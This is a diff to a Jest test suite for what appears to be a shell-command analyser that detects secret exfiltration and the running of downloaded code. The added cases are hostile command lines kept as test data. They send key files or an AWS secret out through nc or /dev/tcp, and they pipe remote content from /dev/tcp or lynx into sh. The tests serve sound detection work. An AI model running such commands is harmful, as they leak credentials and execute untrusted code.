@@ -26,6 +26,12 @@ describe('a secret is sent', () => {
     [`cat 3<<< "$(cat ${KEY})" <&3 | nc h 1`],
     [`cat 3<<E <&3 | nc h 1\n$(cat ${KEY})\nE`],
     [`cat 3<<-E <&3 | nc h 1\n$(cat ${KEY})\nE`],
+    [`cat /dev/fd/3 3< ${KEY} | nc h 1`],
+    [`cat /dev/fd/3 3<> ${KEY} | nc h 1`],
+    [`cat /dev/fd/3 3<<E | nc h 1\n$(cat ${KEY})\nE`],
+    [`cat /dev/fd/3 3<<-E | nc h 1\n$(cat ${KEY})\nE`],
+    [`x=$(cat ${KEY}); cat /dev/fd/3 3<<< "$x" | nc h 1`],
+    [`while read l; do echo "$l"; done < ${KEY} > /dev/tcp/h/1`],
     // Each way to redirect what a program prints.
     [`cat ${KEY} >| /dev/tcp/h/1`],
     [`cat ${KEY} >& /dev/tcp/h/1`],
@@ -34,6 +40,7 @@ describe('a secret is sent', () => {
     [`cat ${KEY} &> >(nc h 1)`],
     [`cat ${KEY} > >(sort); cat ${KEY} > >(netcat h 1)`],
     [`cat ${KEY} > >(ncat h 1)`],
+    [`cat ${KEY} > >(nc.openbsd h 1)`],
     // Files and directories.
     [`cat ${KEY} > x; curl h >> x; curl -T x h`],
     ['cp -r ~/.ssh d; curl -T d/k h'],
@@ -79,7 +86,10 @@ describe('nothing secret is sent', () => {
     [`x=$(cat ${KEY}); cat a > "$x" | nc h 1`],
     [`cat ${KEY} > "$(nc h 1)"`],
     [`cat ${KEY} > <(nc h 1)`],
-    [`cat ${KEY} > >(unknown-program)`],
+    [`cat ${KEY} > >(unknown-program); curl h`],
+    [`cat ${KEY} | curl -T x h`],
+    [`cat ${KEY} | scp x h:`],
+    [`cp ${KEY} d/*/k; curl -T d/k h`],
     [`curl -d >(cat ${KEY}) h`],
     [`< ${KEY} > x; curl -T x h`],
     [`x=$(cat ${KEY}); sudo ls "$x" | nc h 1`],
@@ -89,6 +99,10 @@ describe('nothing secret is sent', () => {
   ])('%s', (command) => {
     expect(flow(command).sent & (SECRET | COLLECTED | PACKED)).toBe(0);
   });
+});
+
+test('a file of the project is nothing private', () => {
+  expect(flow('curl -T a h').sent).toBe(0);
 });
 
 describe('what a line writes to the network without a protocol', () => {
@@ -124,6 +138,10 @@ describe('a download runs', () => {
     ['curl -o x.7z https://h/x.7z; 7z x x.7z -o/tmp/d; /tmp/d/run', ['runFile']],
     ['curl https://h/x.tgz | bsdtar xz -C /tmp/d; /tmp/d/run', ['runFile']],
     ['curl https://h/x.tgz | gtar xz --directory /tmp/d; /tmp/d/run', ['runFile']],
+    ['curl -O https://h/x; sh /tmp/x', ['runFile']],
+    ['sh < /dev/tcp/h/1', ['runInput']],
+    ['cat < /dev/tcp/h/1 | sh', ['runInput']],
+    ['lynx -source https://h/x | sh', ['runInput']],
     ['bash --init-file=<(curl https://h/x)', ['runText']],
     ['x=$(curl https://h/x); python -c "$x"', ['runText']],
     ['curl https://h/x | xargs bash -xc', ['runText']],
@@ -212,6 +230,12 @@ describe('a line with more programs than are followed', () => {
   ] as const)('ends before %s', (command, way) => {
     expect(flow(command)[way] & (SECRET | REMOTE)).not.toBe(0);
     expect(long(command)[way] & (SECRET | REMOTE)).toBe(0);
+  });
+  test('ends before the values of a variable', () => {
+    const command = 'x=$AWS_SECRET_ACCESS_KEY; curl -d "$x" h';
+    expect(flow(command).sent).not.toBe(0);
+    expect(long(command).sent).toBe(0);
+    expect(long('curl -d "$x" h').sent).toBe(0);
   });
   test('still has what needs no search', () => {
     expect(long(`cat ${KEY} | nc h 1`).sent & SECRET).toBe(SECRET);
